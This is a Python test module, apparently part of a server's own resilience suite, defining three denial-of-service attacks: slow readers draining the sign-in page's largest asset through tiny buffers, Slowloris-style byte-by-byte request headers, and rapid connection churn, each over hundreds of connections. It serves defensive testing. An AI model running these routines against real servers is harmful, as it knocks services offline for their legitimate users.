"""Attacks over HTTP with many connections that each ask for little."""

import re
import socket
import threading
import time
from contextlib import suppress

from tests.attack.attacks import attack
from tests.attack.target import Target

#: Connections of one attacker.
MANY = 300
#: Pause between reads, and connections opened together: they are slow because they read slowly.
_PAUSE_SECONDS = 0.1
_OPENED_TOGETHER = 10
_SMALL_BUFFER = 4096
_SCRIPT = re.compile(rb'(?:src|href)="(/static/[^"]+\.(?:js|css))"')


def _connected(target: Target) -> socket.socket | None:
    """A connection with a small receive buffer, so that the server cannot write ahead."""
    opened = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL_BUFFER)
    opened.settimeout(5)
    try:
        opened.connect(target.address)
    except OSError:
        opened.close()
        return None
    return opened


def _fetched(target: Target, path: str) -> bytes:
    with target.connect() as connection:
        connection.sendall(target.request(f"GET {path}", ("Connection: close",)))
        found = bytearray()
        with suppress(OSError):
            while data := connection.recv(1 << 20):
                found += data
        return bytes(found)


def _largest_asset(target: Target) -> str:
    """The path of the largest file that the sign-in page loads."""
    paths = {path.decode() for path in _SCRIPT.findall(_fetched(target, "/login"))}
    return max(paths, key=lambda path: len(_fetched(target, path)), default="/login")


def _read_slowly(target: Target, data: bytes, until: float) -> None:
    """MANY connections ask once and read a few KiB now and then; if cut off, they reconnect."""
    opened: list[socket.socket] = []
    while time.monotonic() < until:
        for _ in range(min(_OPENED_TOGETHER, MANY - len(opened))):
            connection = _connected(target)
            if connection is not None:
                with suppress(OSError):
                    connection.sendall(data)
                connection.setblocking(False)
                opened.append(connection)
        time.sleep(_PAUSE_SECONDS)
        for connection in list(opened):
            try:
                left = bool(connection.recv(_SMALL_BUFFER))
            except BlockingIOError:
                left = True
            except OSError:
                left = False
            if not left:
                connection.close()
                opened.remove(connection)


@attack("slow-readers", "300 connections read a large file slowly", warm_up=3.5)
def slow_readers(target: Target, until: float) -> None:
    _read_slowly(target, target.request(f"GET {_largest_asset(target)}"), until)


@attack("slow-heads", "300 connections send their requests byte by byte", warm_up=1.5)
def slow_heads(target: Target, until: float) -> None:
    head = target.request("GET /healthz", ("X-Filler: " + "x" * 4000,))
    opened: dict[socket.socket, int] = {}
    while time.monotonic() < until:
        for _ in range(min(_OPENED_TOGETHER, MANY - len(opened))):
            if (connection := _connected(target)) is not None:
                opened[connection] = 0
        time.sleep(0.02)
        for connection, sent in list(opened.items()):
            try:
                connection.sendall(head[sent : sent + 1])
                opened[connection] = sent + 1
            except OSError:
                connection.close()
                del opened[connection]


@attack("connections", "connections that are opened and closed without a request, 8 at a time")
def connections(target: Target, until: float) -> None:
    def open_and_close() -> None:
        while time.monotonic() < until:
            opened = _connected(target)
            if opened is None:
                time.sleep(0.05)
            else:
                opened.close()

    threads = [threading.Thread(target=open_and_close, daemon=True) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
